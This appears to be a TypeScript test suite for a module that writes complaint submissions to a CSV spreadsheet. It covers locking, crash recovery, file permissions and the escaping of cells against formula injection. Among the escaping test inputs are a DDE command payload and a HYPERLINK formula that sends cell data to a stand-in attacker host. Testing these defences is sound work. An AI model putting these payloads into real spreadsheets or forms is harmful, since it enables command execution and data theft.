/** The file of the example: one row for each submission, and nothing that a spreadsheet would calculate. */
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect } from 'chai'
import { cell, cellsOf } from '../src/cell.ts'
import { type Row, spreadsheet } from '../src/spreadsheet.ts'

const { signal } = new AbortController()
const TIME = '2026-11-21T21:09:42.000Z'

describe('the spreadsheet of the example', () => {
  let folder: string
  let file: string
  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'spreadsheet-'))
    file = join(folder, 'new', 'complaints.csv')
  })
  afterEach(() => rmSync(folder, { recursive: true, force: true }))

  const row = (submissionId: string, ...cells: string[]): Row => ({ submissionId, cells, receivedAt: new Date(TIME) })
  const read = () => readFileSync(file, 'utf8')

  it('has a head, and one line for each submission', async () => {
    const { add } = spreadsheet(file, ['name', 'complaint'])

    await add(row('a', 'Ada', 'It was "closed",\nagain.'), signal)
    await add(row('b', 'Zoë', ''), signal)

    expect(read()).to.equal(
      '\uFEFF"submission","name","complaint","received"\n' +
        `"a","Ada","It was ""closed"", again.","${TIME}"\n` +
        `"b","Zoë","","${TIME}"\n`,
    )
  })

  it('is for its owner only, also where somebody else made it', async () => {
    await spreadsheet(file, []).add(row('a'), signal)
    expect(statSync(file).mode & 0o777).to.equal(0o600)
    expect(statSync(join(folder, 'new')).mode & 0o777).to.equal(0o700)

    chmodSync(file, 0o644)
    await spreadsheet(file, []).add(row('b'), signal)
    expect(statSync(file).mode & 0o777).to.equal(0o600)
  })

  it('has nothing of the answers beside it', async () => {
    await spreadsheet(file, ['answer']).add(row('a', 'Ada Lovelace'), signal)

    expect(readdirSync(join(folder, 'new'))).to.deep.equal(['complaints.csv', 'complaints.csv.lock'])
    expect(statSync(`${file}.lock`).size).to.equal(0)
  })

  it('gets one line, when a submission is added twice, one after the other or at once', async () => {
    const [first, second] = [spreadsheet(file, ['answer']), spreadsheet(file, ['answer'])]

    await Promise.all([first, second, first].map(({ add }) => add(row('a', 'x'), signal)))
    await first.add(row('a', 'another answer'), signal)

    expect(read().split('\n')).to.have.length(3)
  })

  it('is whole again after a death at any byte of a line, or of the first', async () => {
    const { add } = spreadsheet(file, ['x'])
    await add(row('a', '"ë,""'), signal)
    const whole = readFileSync(file)

    for (let cut = 0; cut <= whole.length; cut += 1) {
      writeFileSync(file, whole.subarray(0, cut))
      await add(row('a', '"ë,""'), signal)
      expect(read(), `cut at ${cut}`).to.equal(whole.toString())
    }
  })

  it('loses nothing that an editor saved without the last line end, or with other quotes and line ends', async () => {
    const { add } = spreadsheet(file, ['answer'])
    await add(row('a', 'x'), signal)
    for (const saved of [
      `"submission","answer","received"\n"a","x","${TIME}"`,
      `\uFEFFsubmission;answer;received\r\na;x;21/11/2026 21:09\r\n`,
      `submission,answer,received\na,x,${TIME}`,
    ]) {
      writeFileSync(file, saved)

      await add(row('a', 'x'), signal)
      await add(row('b', 'y'), signal)

      expect(read()).to.equal(`${saved.replace(/(?<!\n)$/, '\n')}"b","y","${TIME}"\n`)
    }
  })

  it('is not repaired by what a citizen wrote in it', async () => {
    const { add } = spreadsheet(file, ['answer'])

    await add(row('a', 'x\n"b","y"\nb,y'), signal)
    await add(row('b', 'y'), signal)

    expect(read().match(/^"b","y"/gm)).to.have.length(1)
    expect(read().trim().split('\n')).to.have.length(3)
  })

  it('has one whole line for each submission, when two processes add them and are killed again and again', async () => {
    const ids = Array.from({ length: 20 }, (_, index) => `submission-${index}`)
    const program = join(import.meta.dirname, 'add-rows.ts')
    const run = async (rows: readonly string[], killAfter?: number) => {
      const child = spawn(process.execPath, [program, file, ...rows], { stdio: ['ignore', 'pipe', 'inherit'] })
      let count = 0
      child.stdout.on('data', (chunk: Buffer) => {
        count += chunk.toString().split('\n').length - 1
        if (killAfter !== undefined && count >= killAfter) child.kill('SIGKILL')
      })
      await once(child, 'close')
    }

    await Promise.all([run(ids, 3), run(ids.toReversed(), 4)])
    await Promise.all([run(ids, 7), run(ids.toReversed(), 10)])
    await Promise.all([run(ids), run(ids.toReversed())])

    const lines = read().trimEnd().split('\n').map(cellsOf)
    expect(lines.filter((cells) => cells.length !== 3)).to.deep.equal([])
    expect(
      lines
        .slice(1)
        .map(([id]) => id)
        .sort(),
    ).to.deep.equal(ids.toSorted())
  })

  it('waits for a lock no longer than its attempt', async () => {
    await spreadsheet(file, []).add(row('a'), signal)
    const { DatabaseSync } = await import('node:sqlite')
    using held = new DatabaseSync(`${file}.lock`)
    held.exec('BEGIN EXCLUSIVE')

    const error = await spreadsheet(file, [])
      .add(row('b'), AbortSignal.timeout(100))
      .catch((error: Error) => error)

    expect(error).to.have.property('name', 'AbortError')
    held.exec('ROLLBACK')
    await spreadsheet(file, []).add(row('b'), signal)
    expect(read()).to.contain('\n"b",')
  })
})

describe('a cell of the spreadsheet', () => {
  for (const [text, written] of [
    ['', '""'],
    ['Ada', '"Ada"'],
    ['a "b", c', '"a ""b"", c"'],
    ['=1+1', `"'=1+1"`],
    ['+44 7700 900123', `"'+44 7700 900123"`],
    ['-5', `"'-5"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1+1', `"' =1+1"`],
    ['\tx', `"' x"`],
    ['\r=1+1', `"' =1+1"`],
    ['\rx', `"' x"`],
    ['\nx', `"' x"`],
    [' =1+1', `"' =1+1"`],
    ['\u200B=1+1', `"'\u200B=1+1"`],
    ['\uFEFF=1+1', `"'\uFEFF=1+1"`],
    ['\0=1+1', `"' =1+1"`],
    ['＝1+1', `"'＝1+1"`],
    ['＠x', `"'＠x"`],
    ['"=1+1"', '"""=1+1"""'],
    ['a\r\nb', '"a b"'],
    ['a\u2028b', '"a b"'],
    ['x;=1+1', `"x;'=1+1"`],
    ['x; "=1+1', `"x;' ""=1+1"`],
    ['5 - 4 = 1; fine', '"5 - 4 = 1; fine"'],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['=HYPERLINK("https://evil.example?"&A1)', `"'=HYPERLINK(""https://evil.example?""&A1)"`],
  ] as const) {
    it(`of ${JSON.stringify(text)} is ${written}`, () => {
      expect(cell(text)).to.equal(written)
    })
  }

  it('is read as it was written', () => {
    expect(cellsOf('"a ""b"", c",,"x",y')).to.deep.equal(['a "b", c', '', 'x', 'y'])
    expect(cellsOf('a;"b;c";')).to.deep.equal(['a', 'b;c', ''])
  })
})
